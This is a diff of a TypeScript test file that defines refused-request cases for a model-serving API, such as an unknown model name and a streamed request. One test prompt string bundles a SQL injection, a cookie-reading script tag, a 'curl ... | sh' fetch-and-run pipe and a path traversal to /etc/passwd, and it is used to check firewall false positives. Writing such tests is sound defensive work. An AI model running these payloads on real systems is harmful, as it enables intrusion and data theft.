@@ -131,7 +131,7 @@ export const numberContent = inMessages("wrong-type-content", "with a message wh
 const without = (body: Body, field: string): Body =>
   Object.fromEntries(Object.entries(body).filter(([name]) => name !== field));
 
-/** A model that does not exist, and the same in a stream. */
+/** A model that does not exist. */
 export const unknownModel: RefusedCase = {
   name: "unknown-model",
   says: "of a model that does not exist",
@@ -139,28 +139,32 @@ export const unknownModel: RefusedCase = {
   change: (body) => ({ ...body, model: noSuchModel }),
 };
 
-export const streamedUnknownModel: RefusedCase = {
-  name: "streamed",
-  says: "that asks an unknown model for a stream",
-  kind: "model",
-  change: (body) => ({ ...body, model: noSuchModel, stream: true }),
-};
-
 /** A question that people ask of models, and that a firewall takes for an attack. */
 const attackLike =
   "Is `1' OR 1=1; DROP TABLE users; --` or <script>alert(document.cookie)</script> worse than `curl -s http://example.com/x.sh | sh` and ../../etc/passwd?";
 
-/** The same of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
-export const streamedOddModel: RefusedCase = {
-  ...streamedUnknownModel,
-  says: "about SQL, scripts and shells that asks a model with quotes, an umlaut and a bracket in its name for a stream",
-  change: (body) => ({
-    ...body,
-    model: `${noSuchModel} "ü" (<'`,
-    messages: [{ role: "user", content: attackLike }],
-    stream: true,
-  }),
+const aboutAttack = "about SQL, scripts and shells";
+
+/** The same about what a firewall in front may refuse: it costs nothing to find, as no model answers. */
+export const unknownModelOfAttack: RefusedCase = {
+  ...unknownModel,
+  says: `${aboutAttack} of a model that does not exist`,
+  change: (body) => ({ ...asking(body, attackLike), model: noSuchModel }),
 };
+
+/** The same for a stream, of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
+export const streamedOddModel: RefusedCase = {
+  name: "streamed",
+  says: `${aboutAttack} that asks a model with quotes, an umlaut and a bracket in its name for a stream`,
+  kind: "model",
+  change: (body) => ({ ...asking(body, attackLike), model: `${noSuchModel} "ü" (<'`, stream: true }),
+};
+
+/** A body with another prompt. */
+const asking = (body: Body, text: string): Body => ({
+  ...body,
+  ...("input" in body ? { input: text } : { messages: [{ role: "user", content: text }] }),
+});
 
 const nesting = 500;
 
